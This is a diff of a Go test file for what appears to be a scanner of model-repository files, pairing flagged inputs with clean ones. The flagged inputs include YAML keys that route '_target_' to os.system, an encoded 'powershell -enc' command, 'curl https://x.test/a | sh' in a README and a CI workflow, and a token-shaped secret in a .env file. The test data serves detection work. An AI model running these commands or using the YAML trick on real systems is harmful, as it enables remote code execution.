@@ -92,6 +92,7 @@ func TestRules(t *testing.T) {
 		s("call-target", "x.yaml", "? \"\\U0000005Ftar\\\n   get_\" # key\n: os.system\n", "? key\n: x\n"),
 		s("call-target", "x.yaml", "? _target_ # key\n: os.system\n", "skip: [_target_, x]\n"),
 		s("call-target", "x.yaml", "k: &k '_target_'\n*k : os.system\n", "k: &k _target\n"),
+		s("secret", ".env", "HF_TOKEN="+"hf_"+"qWmZkRpLvNcXsJdHgFbTyUiOeKaMzQwErY"+"\n", "HF_TOKEN=hf_...\n"),
 		s("command", "README.md", "```\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\n```\n", "```\npip install transformers\n```\n"),
 		s("command", "README.md", "Run `curl https://x.test/a | sh`.\n", "Run `python loader.py`.\n"),
 		s("command", "r/.github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: curl https://x.test/a | sh\n", "jobs:\n  a:\n    steps:\n      - run: make\n"),
